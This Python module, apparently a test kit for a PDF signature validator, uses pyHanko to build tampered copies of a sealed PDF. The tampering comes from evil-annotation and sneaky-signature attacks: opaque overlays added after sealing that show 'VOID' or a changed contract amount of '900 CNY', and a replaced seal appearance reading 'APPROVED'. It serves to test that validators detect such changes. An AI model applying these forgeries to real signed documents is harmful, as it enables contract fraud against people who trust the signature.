"""Evil annotations (EAA) and sneaky signatures (SSA): a new annotation, form field or empty
signature field after the seal whose opaque appearance lies over the sealed content, and the
seal's own widget given another picture."""

from __future__ import annotations

import io

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from .kit import Kit, add_annotation, add_field, box_appearance, rect, text_field, written


def _annotated(kit: Kit, subtype: str, text: str, box, **extra: generic.PdfObject) -> bytes:
    """The sealed file with one more annotation whose appearance is an opaque box with `text`."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): rect(box),
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): box_appearance(writer, text, box=box)}
            ),
            **{pdf_name(key): value for key, value in extra.items()},
        }
    )
    add_annotation(writer, annotation)
    return written(writer)


def eaa_free_text(kit: Kit) -> bytes:
    return _annotated(
        kit,
        "/FreeText",
        "VOID",
        (60, 650, 540, 760),
        **{"/Contents": pdf_string("VOID"), "/DA": pdf_string("0 0 0 rg /Helv 24 Tf")},
    )


def eaa_stamp(kit: Kit) -> bytes:
    return _annotated(kit, "/Stamp", "Contract amount: 900 CNY", (60, 680, 400, 730))


def overlay_new_text_field(kit: Kit) -> bytes:
    """An unsigned new form field whose appearance is an opaque box with other text over the
    sealed content: the overlay the issue reported as 「签章后文件未被修改」."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    appearance = box_appearance(writer, "Amount: 900 CNY")
    ref = add_annotation(writer, text_field(writer, "overlay", "", (60, 680, 400, 730), appearance))
    add_field(writer, ref)
    return written(writer)


def ssa_unsigned_signature_field(kit: Kit) -> bytes:
    """Sneaky signature attack: an empty signature field whose appearance overlays the content."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    appearance = box_appearance(writer, "Amount: 900 CNY")
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Sig"),
            pdf_name("/T"): pdf_string("sneaky"),
            pdf_name("/Rect"): rect((60, 680, 400, 730)),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
        }
    )
    ref = add_annotation(writer, field)
    add_field(writer, ref)
    return written(writer)


def seal_appearance_replaced(kit: Kit) -> bytes:
    """The seal's own widget gets a new appearance after sealing (another picture in its place)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(kit.sealed), strict=False)
    field_ref = writer.root["/AcroForm"]["/Fields"].raw_get(0)
    field = field_ref.get_object()
    field[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): box_appearance(writer, "APPROVED", box=(0, 0, 120, 120))}
    )
    writer.update_container(field)
    return written(writer)
